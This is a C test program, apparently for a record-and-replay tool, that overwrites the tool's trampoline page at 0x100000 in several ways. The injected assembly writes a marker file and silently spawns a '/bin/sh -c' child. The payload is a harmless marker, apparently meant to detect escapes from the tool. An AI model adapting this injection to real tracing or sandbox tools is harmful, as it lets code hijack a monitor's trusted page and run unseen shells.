// Puts code of its own where a process that is made from its log has its trampoline, the lowest free page from 0x100000 on, in one of several ways, and has the
// process use it. The code appends to a file, and starts a shell in a child of which nobody is told.
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

__asm__(".balign 4096\n"
        "page:\n"
        " syscall\n" // what the trampoline does
        " push %rax\n push %rbx\n mov %rsp, %rbx\n lea -4096(%rsp), %rsp\n"
        " lea name(%rip), %rdi\n mov $0x441, %esi\n mov $0600, %edx\n mov $2, %eax\n syscall\n" // open
        " mov %eax, %edi\n lea name(%rip), %rsi\n mov $1, %edx\n mov $1, %eax\n syscall\n"      // write
        " xor %edi, %edi\n xor %esi, %esi\n xor %edx, %edx\n xor %r10d, %r10d\n xor %r8d, %r8d\n mov $56, %eax\n syscall\n" // clone
        " test %eax, %eax\n jnz 1f\n"
        " lea shell(%rip), %rdi\n push $0\n lea command(%rip), %rax\n push %rax\n lea option(%rip), %rax\n push %rax\n push %rdi\n"
        " mov %rsp, %rsi\n xor %edx, %edx\n mov $59, %eax\n syscall\n" // execve
        "1: mov %rbx, %rsp\n pop %rbx\n pop %rax\n int3\n"
        "name: .asciz \"escaped\"\n"
        "shell: .asciz \"/bin/sh\"\noption: .asciz \"-c\"\ncommand: .asciz \"echo >escaped-shell\"\n"
        ".balign 4096\n");
extern char page[];

static char *const trampoline = (char *)0x100000;
enum { SIZE = 4096 };

static void *fresh(int flags)
{
    return mmap(trampoline, SIZE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | flags, -1, 0);
}

static void fill(char *at)
{
    memcpy(at, page, SIZE);
    mprotect(at, SIZE, PROT_READ | PROT_EXEC);
}

int main(int argc, char **argv)
{
    const char *way = argc > 1 ? argv[1] : "";
    if (!strcmp(way, "mremap")) {
        char *other = mmap(0, SIZE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        fill(other);
        syscall(SYS_mremap, other, SIZE, SIZE, MREMAP_MAYMOVE | MREMAP_FIXED, trampoline);
    } else if (!strcmp(way, "mmap")) {
        if (fresh(MAP_FIXED) != MAP_FAILED)
            fill(trampoline);
    } else if (!strcmp(way, "munmap")) {
        munmap((char *)0x10000, 0x400000 - 0x10000);
        if (fresh(0) == trampoline)
            fill(trampoline);
    } else if (!strcmp(way, "mprotect")) {
        if (mprotect(trampoline, SIZE, PROT_READ | PROT_WRITE) == 0)
            fill(trampoline);
    } else if (!strcmp(way, "read")) {
        int ends[2];
        if (pipe(ends) == 0 && write(ends[1], page, SIZE) == SIZE && fresh(0) == trampoline) {
            // What a system call writes is taken from the log.
            read(ends[0], trampoline, SIZE);
            mprotect(trampoline, SIZE, PROT_READ | PROT_EXEC);
            // So that the log has it.
            volatile char sum = 0;
            for (int i = 0; i < SIZE; i++)
                sum += trampoline[i];
        }
    }
    // The process has to map memory, for which it uses the trampoline.
    for (int i = 0; i < 4; i++)
        mmap(0, SIZE, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    printf("%d\n", 3 - (argc + 1));
    return 0;
}
